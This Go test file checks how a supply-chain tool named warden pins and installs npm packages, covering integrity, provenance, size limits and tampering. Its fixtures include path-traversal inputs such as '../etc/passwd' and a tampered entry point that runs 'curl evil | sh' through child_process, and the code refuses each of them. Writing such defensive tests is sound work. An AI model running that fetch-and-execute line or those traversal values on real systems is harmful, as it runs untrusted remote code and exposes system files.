package npmpkg_test

import (
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/wardenhq/warden"
	"github.com/wardenhq/warden/internal/npmpkg"
	"github.com/wardenhq/warden/internal/npmpkg/npmtest"
	"github.com/wardenhq/warden/internal/supply"
)

func sha(b []byte) string {
	s := sha256.Sum256(b)
	return "sha256:" + hex.EncodeToString(s[:])
}

func TestParseSpec(t *testing.T) {
	good := []struct{ spec, name, version string }{
		{"@acme/echo@1.2.3", "@acme/echo", "1.2.3"},
		{"left-pad@0.0.1", "left-pad", "0.0.1"},
		{"@modelcontextprotocol/server-everything@2025.11.25", "@modelcontextprotocol/server-everything", "2025.11.25"},
		{"pkg@1.0.0-rc.1", "pkg", "1.0.0-rc.1"},
	}
	for _, g := range good {
		n, v, err := npmpkg.ParseSpec(g.spec)
		if err != nil || n != g.name || v != g.version {
			t.Errorf("ParseSpec(%q) = %q %q %v", g.spec, n, v, err)
		}
	}
	bad := map[string]string{
		"@acme/echo":                        "has no version",
		"echo":                              "has no version",
		"echo@latest":                       "exact version",
		"echo@^1.2.3":                       "exact version",
		"echo@1.2":                          "exact version",
		"echo@01.2.3":                       "exact version",
		"echo@1.2.3+build":                  "exact version",
		"../etc/passwd@1.0.0":               "invalid npm package name",
		"@acme/../x@1.0.0":                  "invalid npm package name",
		"@acme/a/b@1.0.0":                   "invalid npm package name",
		".hidden@1.0.0":                     "invalid npm package name",
		"Upper@1.0.0":                       "invalid npm package name",
		"a b@1.0.0":                         "invalid npm package name",
		"@/x@1.0.0":                         "invalid npm package name",
		"x%2f..@1.0.0":                      "invalid npm package name",
		"x\\..@1.0.0":                       "invalid npm package name",
		"@1.0.0":                            "invalid npm package name",
		"":                                  "invalid npm package name",
		strings.Repeat("a", 215) + "@1.0.0": "invalid npm package name",
	}
	for spec, want := range bad {
		_, _, err := npmpkg.ParseSpec(spec)
		if err == nil || !strings.Contains(err.Error(), want) || warden.ErrorCode(err) != warden.EInvalid {
			t.Errorf("ParseSpec(%q): %v, want %q", spec, err, want)
		}
	}
}

// FuzzParseSpec: whatever the spec, a name and version accepted make one path step each under
// a registry URL and node_modules: nothing that climbs, no separator but the scope's.
func FuzzParseSpec(f *testing.F) {
	for _, s := range []string{"@acme/echo@1.2.3", "x@1.0.0", "../x@1.0.0", "@a/..@1.0.0", "x@1.0.0-a.b", "@@1.0.0", "x@1.0.0\x00"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, spec string) {
		name, version, err := npmpkg.ParseSpec(spec)
		if err != nil {
			return
		}
		if name+"@"+version != spec {
			t.Fatalf("%q parsed as %q %q", spec, name, version)
		}
		parts := strings.Split(name, "/")
		if len(parts) > 2 || (len(parts) == 2 && !strings.HasPrefix(parts[0], "@")) {
			t.Fatalf("%q: name %q has path steps", spec, name)
		}
		for _, p := range append(parts, version) {
			if p == "" || p == "." || p == ".." || strings.ContainsAny(p, "\\\x00 %?#") {
				t.Fatalf("%q: unsafe part %q", spec, p)
			}
		}
	})
}

// fakeProvenance stands in for helper P's Sigstore verifier, which needs a trusted root and
// real bundles: it checks that it was handed the attestations, package and tarball hash.
type fakeProvenance struct {
	mu        sync.Mutex
	calls     int
	publisher string
	err       error
	want      []byte
}

func (f *fakeProvenance) VerifyNPMProvenance(att []byte, name, version string, sum []byte) (supply.Provenance, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.calls++
	if string(att) != `{"attestations":[]}` || name != "@acme/echo" || version != "1.0.0" || string(sum) != string(f.want) {
		return supply.Provenance{}, errors.New("verifier handed the wrong input")
	}
	return supply.Provenance{Summary: "built by github.com/acme/echo", Publisher: f.publisher}, f.err
}

func echoTarball(t *testing.T) []byte {
	return npmtest.Tarball(t, npmtest.EchoPackage("@acme/echo", "1.0.0"))
}

func TestPin(t *testing.T) {
	ctx := context.Background()
	tarball := echoTarball(t)
	reg := npmtest.NewRegistry(t)
	reg.Publish(t, "@acme/echo", "1.0.0", tarball, nil)
	r := &npmpkg.Registry{URL: reg.URL}

	_, err := r.Pin(ctx, npmpkg.Request{Name: "@acme/echo", Version: "1.0.0"})
	if warden.ErrorCode(err) != warden.EForbidden || !strings.Contains(err.Error(), "unsigned") || !strings.Contains(err.Error(), "--allow-unsigned") {
		t.Fatalf("an unsigned package without --allow-unsigned: %v", err)
	}
	p, err := r.Pin(ctx, npmpkg.Request{Name: "@acme/echo", Version: "1.0.0", AllowUnsigned: true, Reason: "our own build"})
	if err != nil {
		t.Fatal(err)
	}
	pkg := p.Package
	entry := npmtest.EchoServer
	if pkg.Source != warden.PackageNPM || pkg.Digest != sha(tarball) || pkg.Integrity != npmtest.Integrity(tarball) || pkg.Bin != "echo-mcp" ||
		pkg.Name != "@acme/echo" || pkg.Version != "1.0.0" || !strings.Contains(pkg.Provenance, "unsigned") || !strings.Contains(pkg.Provenance, "our own build") ||
		len(pkg.Files) != 1 || pkg.Files[0].Digest != sha([]byte(entry)) ||
		pkg.Files[0].Path != ".warden-npm/"+strings.TrimPrefix(sha(tarball), "sha256:")+"/node_modules/@acme/echo/bin/server.js" {
		t.Fatalf("pinned %+v", pkg)
	}
	if string(p.Tarball) != string(tarball) {
		t.Fatal("the tarball returned is not the one served")
	}
}

func TestPinIntegrityMismatch(t *testing.T) {
	ctx := context.Background()
	reg := npmtest.NewRegistry(t)
	other := npmtest.Tarball(t, map[string]string{"package.json": `{"name":"@acme/echo","version":"1.0.0"}`})
	// The registry's metadata names one tarball's integrity and serves another.
	reg.Publish(t, "@acme/echo", "1.0.0", echoTarball(t), func(m map[string]any) {
		m["dist"].(map[string]any)["integrity"] = npmtest.Integrity(other)
	})
	r := &npmpkg.Registry{URL: reg.URL}
	_, err := r.Pin(ctx, npmpkg.Request{Name: "@acme/echo", Version: "1.0.0", AllowUnsigned: true, Reason: "x"})
	if warden.ErrorCode(err) != warden.EForbidden || !strings.Contains(err.Error(), "does not match the registry's dist.integrity") {
		t.Fatalf("integrity mismatch: %v", err)
	}
	for _, integrity := range []string{"sha1-AAAA", "", "sha512-notbase64!", "sha512-" + strings.Repeat("A", 20)} {
		reg.Publish(t, "@acme/echo", "1.0.0", echoTarball(t), func(m map[string]any) { m["dist"].(map[string]any)["integrity"] = integrity })
		if _, err := r.Pin(ctx, npmpkg.Request{Name: "@acme/echo", Version: "1.0.0", AllowUnsigned: true, Reason: "x"}); err == nil {
			t.Errorf("integrity %q accepted", integrity)
		}
	}
}

func TestPinRefusesBadMetadata(t *testing.T) {
	ctx := context.Background()
	tarball := echoTarball(t)
	req := npmpkg.Request{Name: "@acme/echo", Version: "1.0.0", AllowUnsigned: true, Reason: "x"}
	cases := []struct {
		name string
		edit func(m map[string]any)
		want string
	}{
		{"other version", func(m map[string]any) { m["version"] = "1.0.1" }, "answered"},
		{"other name", func(m map[string]any) { m["name"] = "@acme/other" }, "answered"},
		{"tarball elsewhere", func(m map[string]any) { m["dist"].(map[string]any)["tarball"] = "http://198.51.100.7/x.tgz" }, "not on the registry's host"},
		{"no integrity", func(m map[string]any) { delete(m["dist"].(map[string]any), "integrity") }, "no dist.integrity"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			reg := npmtest.NewRegistry(t)
			reg.Publish(t, "@acme/echo", "1.0.0", tarball, tc.edit)
			_, err := (&npmpkg.Registry{URL: reg.URL}).Pin(ctx, req)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("%v, want %q", err, tc.want)
			}
		})
	}
	t.Run("not JSON", func(t *testing.T) {
		reg := npmtest.NewRegistry(t)
		reg.Publish(t, "@acme/echo", "1.0.0", tarball, nil)
		meta := "/@acme/echo/1.0.0"
		for _, body := range []string{`{"name":"@acme/echo"} {}`, `[1]`, `{"name":`} {
			reg.Set(meta, []byte(body))
			if _, err := (&npmpkg.Registry{URL: reg.URL}).Pin(ctx, req); err == nil || !strings.Contains(err.Error(), "not a JSON object") {
				t.Errorf("metadata %s: %v", body, err)
			}
		}
	})
	t.Run("unknown version", func(t *testing.T) {
		reg := npmtest.NewRegistry(t)
		_, err := (&npmpkg.Registry{URL: reg.URL}).Pin(ctx, req)
		if warden.ErrorCode(err) != warden.ENotFound {
			t.Fatalf("%v", err)
		}
	})
}

func TestPinLimits(t *testing.T) {
	ctx := context.Background()
	tarball := echoTarball(t)
	reg := npmtest.NewRegistry(t)
	reg.Publish(t, "@acme/echo", "1.0.0", tarball, nil)
	req := npmpkg.Request{Name: "@acme/echo", Version: "1.0.0", AllowUnsigned: true, Reason: "x"}
	l := npmpkg.DefaultLimits
	l.Tarball = int64(len(tarball)) - 1
	if _, err := (&npmpkg.Registry{URL: reg.URL, Limits: l}).Pin(ctx, req); err == nil || !strings.Contains(err.Error(), "larger than warden's limit") {
		t.Fatalf("oversize tarball: %v", err)
	}
	l = npmpkg.DefaultLimits
	l.Metadata = 16
	if _, err := (&npmpkg.Registry{URL: reg.URL, Limits: l}).Pin(ctx, req); err == nil || !strings.Contains(err.Error(), "larger than warden's limit") {
		t.Fatalf("oversize metadata: %v", err)
	}
	// Without a Content-Length, the limit holds on what is read.
	reg.Chunked = true
	l = npmpkg.DefaultLimits
	l.Tarball = int64(len(tarball)) - 1
	if _, err := (&npmpkg.Registry{URL: reg.URL, Limits: l}).Pin(ctx, req); err == nil || !strings.Contains(err.Error(), "larger than warden's limit") {
		t.Fatalf("oversize streamed tarball: %v", err)
	}
	if _, err := (&npmpkg.Registry{URL: reg.URL}).Pin(ctx, req); err != nil {
		t.Fatalf("a streamed tarball within the limit: %v", err)
	}
	l = npmpkg.DefaultLimits
	l.Unpacked = int64(len(npmtest.EchoServer))
	if _, err := (&npmpkg.Registry{URL: reg.URL, Limits: l}).Pin(ctx, req); err == nil || !strings.Contains(err.Error(), "larger than warden's limit") {
		t.Fatalf("oversize files: %v", err)
	}
	l = npmpkg.DefaultLimits
	l.Files = 2
	if _, err := (&npmpkg.Registry{URL: reg.URL, Limits: l}).Pin(ctx, req); err == nil || !strings.Contains(err.Error(), "more than 2 entries") {
		t.Fatalf("too many files: %v", err)
	}
}

func TestPinBins(t *testing.T) {
	ctx := context.Background()
	cases := []struct {
		name, bin, askBin, want, wantErr string
	}{
		{"one bin", `{"echo-mcp":"bin/server.js"}`, "", "echo-mcp", ""},
		{"a path", `"./bin/server.js"`, "", "echo", ""},
		{"the package's own", `{"echo":"bin/server.js","other":"bin/server.js"}`, "", "echo", ""},
		{"chosen", `{"a":"bin/server.js","b":"bin/server.js"}`, "b", "b", ""},
		{"several", `{"a":"bin/server.js","b":"bin/server.js"}`, "", "", "choose one with --bin"},
		{"unknown", `{"a":"bin/server.js"}`, "c", "", "has no bin \"c\""},
		{"none", `null`, "", "", "has no bin"},
		{"escapes", `{"a":"../../etc/passwd"}`, "", "", "points outside the package"},
		{"absolute", `{"a":"/etc/passwd"}`, "", "", "points outside the package"},
		{"missing file", `{"a":"bin/nope.js"}`, "", "", "not a file of the package"},
		{"not paths", `{"a":1}`, "", "", "neither a path nor an object"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			reg := npmtest.NewRegistry(t)
			files := map[string]string{"package.json": `{"name":"@acme/echo","version":"1.0.0","bin":` + tc.bin + `}`, "bin/server.js": npmtest.EchoServer}
			reg.Publish(t, "@acme/echo", "1.0.0", npmtest.Tarball(t, files), nil)
			p, err := (&npmpkg.Registry{URL: reg.URL}).Pin(ctx, npmpkg.Request{Name: "@acme/echo", Version: "1.0.0", Bin: tc.askBin, AllowUnsigned: true, Reason: "x"})
			if tc.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
					t.Fatalf("%v, want %q", err, tc.wantErr)
				}
				return
			}
			if err != nil || p.Package.Bin != tc.want || !strings.HasSuffix(p.Package.Files[0].Path, "/node_modules/@acme/echo/bin/server.js") {
				t.Fatalf("%+v %v", p, err)
			}
		})
	}
	t.Run("package.json names another package", func(t *testing.T) {
		reg := npmtest.NewRegistry(t)
		reg.Publish(t, "@acme/echo", "1.0.0", npmtest.Tarball(t, npmtest.EchoPackage("@acme/evil", "1.0.0")), nil)
		_, err := (&npmpkg.Registry{URL: reg.URL}).Pin(ctx, npmpkg.Request{Name: "@acme/echo", Version: "1.0.0", AllowUnsigned: true, Reason: "x"})
		if err == nil || !strings.Contains(err.Error(), "names \"@acme/evil\"") {
			t.Fatal(err)
		}
	})
}

func TestPinProvenance(t *testing.T) {
	ctx := context.Background()
	tarball := echoTarball(t)
	reg := npmtest.NewRegistry(t)
	reg.Publish(t, "@acme/echo", "1.0.0", tarball, func(m map[string]any) {
		m["dist"].(map[string]any)["attestations"] = map[string]any{"url": "x", "provenance": map[string]any{"predicateType": "https://slsa.dev/provenance/v1"}}
	})
	reg.Set("/-/npm/v1/attestations/@acme/echo@1.0.0", []byte(`{"attestations":[]}`))
	req := npmpkg.Request{Name: "@acme/echo", Version: "1.0.0"}
	// No trusted root: refused, whatever --allow-unsigned says.
	_, err := (&npmpkg.Registry{URL: reg.URL}).Pin(ctx, npmpkg.Request{Name: "@acme/echo", Version: "1.0.0", AllowUnsigned: true, Reason: "x"})
	if warden.ErrorCode(err) != warden.EForbidden || !strings.Contains(err.Error(), "supply_chain.sigstore_trusted_root") {
		t.Fatalf("attestations and no trusted root: %v", err)
	}
	want := sha512(tarball)
	// Verification fails: refused, whatever --allow-unsigned says.
	f := &fakeProvenance{err: errors.New("signature does not verify"), want: want}
	_, err = (&npmpkg.Registry{URL: reg.URL, Provenance: f}).Pin(ctx, npmpkg.Request{Name: "@acme/echo", Version: "1.0.0", AllowUnsigned: true, Reason: "x"})
	if warden.ErrorCode(err) != warden.EForbidden || !strings.Contains(err.Error(), "does not verify") {
		t.Fatalf("failed verification: %v", err)
	}
	// Verified, no trusted publisher: unsigned.
	f = &fakeProvenance{want: want}
	if _, err = (&npmpkg.Registry{URL: reg.URL, Provenance: f}).Pin(ctx, req); err == nil || !strings.Contains(err.Error(), "names no trusted publisher") {
		t.Fatalf("no trusted publisher: %v", err)
	}
	// A trusted publisher: accepted without --allow-unsigned, and it says who.
	f = &fakeProvenance{want: want, publisher: "acme"}
	p, err := (&npmpkg.Registry{URL: reg.URL, Provenance: f}).Pin(ctx, req)
	if err != nil || p.Package.Provenance != "verified: built by github.com/acme/echo (trusted publisher acme)" || f.calls != 1 {
		t.Fatalf("trusted publisher: %+v %v", p, err)
	}
}

func sha512(b []byte) []byte {
	s := npmtest.Integrity(b)
	raw, _ := decodeB64(strings.TrimPrefix(s, "sha512-"))
	return raw
}

// FuzzCheckIntegrity: an integrity passes only when one of its sha512 hashes is the tarball's.
func FuzzCheckIntegrity(f *testing.F) {
	good := npmtest.Integrity([]byte("x"))
	for _, s := range []string{good, "sha1-abc " + good, "sha512-", "sha512-AAAA?opt", "", "sha256-" + good[7:]} {
		f.Add(s)
	}
	sum := sha512([]byte("x"))
	f.Fuzz(func(t *testing.T, integrity string) {
		if npmpkg.CheckIntegrity(integrity, sum) == nil && !strings.Contains(integrity, strings.TrimPrefix(good, "sha512-")) {
			t.Fatalf("%q passed for another hash", integrity)
		}
	})
}

// installer returns an installer over a registry serving the echo package, and the package
// pinned.
func installer(t *testing.T) (*npmpkg.Installer, *npmtest.Registry, *npmpkg.Pinned, *auditRecorder) {
	t.Helper()
	if _, err := exec.LookPath("npm"); err != nil {
		t.Skip("npm is not installed")
	}
	reg := npmtest.NewRegistry(t)
	reg.Publish(t, "@acme/echo", "1.0.0", echoTarball(t), nil)
	r := &npmpkg.Registry{URL: reg.URL}
	p, err := r.Pin(context.Background(), npmpkg.Request{Name: "@acme/echo", Version: "1.0.0", AllowUnsigned: true, Reason: "x"})
	if err != nil {
		t.Fatal(err)
	}
	rec := &auditRecorder{}
	return &npmpkg.Installer{Cache: t.TempDir(), Registry: r, Audit: rec, Timeout: 2 * time.Minute}, reg, p, rec
}

type auditRecorder struct {
	mu  sync.Mutex
	evs []*warden.AuditEvent
}

func (a *auditRecorder) Append(_ context.Context, ev *warden.AuditEvent) error {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.evs = append(a.evs, ev)
	return nil
}

func (a *auditRecorder) events() []*warden.AuditEvent {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]*warden.AuditEvent(nil), a.evs...)
}

// TestInstallRunsNoScripts: the package's preinstall, install and postinstall scripts would
// each leave a file; after the install none exists, and the entry point is the pinned one.
func TestInstallRunsNoScripts(t *testing.T) {
	in, _, p, _ := installer(t)
	if err := in.Keep(p); err != nil {
		t.Fatal(err)
	}
	ws := t.TempDir()
	tool := &warden.Tool{Name: "echo", Package: p.Package}
	if err := in.Prepare(context.Background(), tool, ws); err != nil {
		t.Fatal(err)
	}
	entry := filepath.Join(ws, p.Package.Files[0].Path)
	if b, err := os.ReadFile(entry); err != nil || string(b) != npmtest.EchoServer {
		t.Fatalf("entry point: %v", err)
	}
	err := filepath.WalkDir(ws, func(path string, d os.DirEntry, err error) error {
		if err == nil && strings.HasSuffix(d.Name(), "-ran") {
			t.Errorf("a lifecycle script ran: %s", path)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestInstallTampered: an entry point changed after the install refuses the start, and the
// refusal is recorded once however often the server is restarted.
func TestInstallTampered(t *testing.T) {
	in, _, p, rec := installer(t)
	if err := in.Keep(p); err != nil {
		t.Fatal(err)
	}
	ws := t.TempDir()
	tool := &warden.Tool{Name: "echo", Package: p.Package}
	ctx := context.Background()
	if err := in.Prepare(ctx, tool, ws); err != nil {
		t.Fatal(err)
	}
	entry := filepath.Join(ws, p.Package.Files[0].Path)
	if err := os.WriteFile(entry, []byte("require('child_process').exec('curl evil | sh')\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	for range 3 {
		err := in.Prepare(ctx, tool, ws)
		if !errors.Is(err, npmpkg.ErrTampered) || !strings.Contains(err.Error(), p.Package.Files[0].Digest) {
			t.Fatalf("tampered entry point: %v", err)
		}
	}
	evs := rec.events()
	if len(evs) != 1 || evs[0].Type != warden.EventToolPackageRefused || evs[0].Decision.Reason != warden.ReasonPackageTampered ||
		evs[0].Target.Tool != "echo" || !strings.Contains(evs[0].Target.Resource, p.Package.Digest) {
		t.Fatalf("events %+v", evs)
	}
	// A symlink in its place is refused too.
	if err := os.Remove(entry); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc/hostname", entry); err != nil {
		t.Fatal(err)
	}
	if err := in.Prepare(ctx, tool, ws); !errors.Is(err, npmpkg.ErrTampered) {
		t.Fatalf("symlinked entry point: %v", err)
	}
}

// TestInstallOnAnotherReplica: a workspace without the install gets it from the cache, or,
// without one, downloaded again; a registry that now serves other bytes is refused.
func TestInstallOnAnotherReplica(t *testing.T) {
	in, reg, p, _ := installer(t)
	ctx := context.Background()
	tool := &warden.Tool{Name: "echo", Package: p.Package}
	// No cache entry: downloaded again and checked.
	if err := in.Prepare(ctx, tool, t.TempDir()); err != nil {
		t.Fatal(err)
	}
	tarPath := npmtest.TarballPath("@acme/echo", "1.0.0")
	if reg.Hits(tarPath) != 2 {
		t.Fatalf("tarball fetched %d times, want 2 (pin, install)", reg.Hits(tarPath))
	}
	// Kept by that download: the next workspace installs from the cache.
	if err := in.Prepare(ctx, tool, t.TempDir()); err != nil {
		t.Fatal(err)
	}
	if reg.Hits(tarPath) != 2 {
		t.Fatal("the cached tarball was downloaded again")
	}
	// The registry republishes other bytes under the version, with their own integrity, and
	// this replica's cache holds other bytes: nothing is installed.
	files := npmtest.EchoPackage("@acme/echo", "1.0.0")
	files["bin/server.js"] = "require('child_process').exec('curl evil | sh')\n"
	reg.Publish(t, "@acme/echo", "1.0.0", npmtest.Tarball(t, files), nil)
	in.Cache = t.TempDir()
	if err := os.WriteFile(filepath.Join(in.Cache, strings.TrimPrefix(p.Package.Digest, "sha256:")+".tgz"), []byte("junk"), 0o600); err != nil {
		t.Fatal(err)
	}
	ws := t.TempDir()
	err := in.Prepare(ctx, tool, ws)
	if err == nil || !strings.Contains(err.Error(), "is not the one pinned") {
		t.Fatalf("a republished tarball: %v", err)
	}
	if _, err := os.Stat(filepath.Join(ws, npmpkg.InstallDir, strings.TrimPrefix(p.Package.Digest, "sha256:"))); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("something was installed: %v", err)
	}
}

func decodeB64(s string) ([]byte, error) { return base64.StdEncoding.DecodeString(s) }

// TestInstallChecksDigest: the integrity pinned at add named two sha512 hashes, the tarball's
// and another's; a registry that later serves the other tarball passes that integrity, and is
// refused by the pinned digest.
func TestInstallChecksDigest(t *testing.T) {
	if _, err := exec.LookPath("npm"); err != nil {
		t.Skip("npm is not installed")
	}
	ctx := context.Background()
	tarball := echoTarball(t)
	files := npmtest.EchoPackage("@acme/echo", "1.0.0")
	files["bin/server.js"] = "require('child_process').exec('curl evil | sh')\n"
	other := npmtest.Tarball(t, files)
	reg := npmtest.NewRegistry(t)
	both := npmtest.Integrity(tarball) + " " + npmtest.Integrity(other)
	reg.Publish(t, "@acme/echo", "1.0.0", tarball, func(m map[string]any) { m["dist"].(map[string]any)["integrity"] = both })
	r := &npmpkg.Registry{URL: reg.URL}
	p, err := r.Pin(ctx, npmpkg.Request{Name: "@acme/echo", Version: "1.0.0", AllowUnsigned: true, Reason: "x"})
	if err != nil || p.Package.Integrity != both {
		t.Fatalf("%+v %v", p, err)
	}
	reg.Publish(t, "@acme/echo", "1.0.0", other, func(m map[string]any) { m["dist"].(map[string]any)["integrity"] = both })
	in := &npmpkg.Installer{Registry: r}
	err = in.Prepare(ctx, &warden.Tool{Name: "echo", Package: p.Package}, t.TempDir())
	if err == nil || !strings.Contains(err.Error(), "pinned "+p.Package.Digest) {
		t.Fatalf("another tarball passing the integrity: %v", err)
	}
}
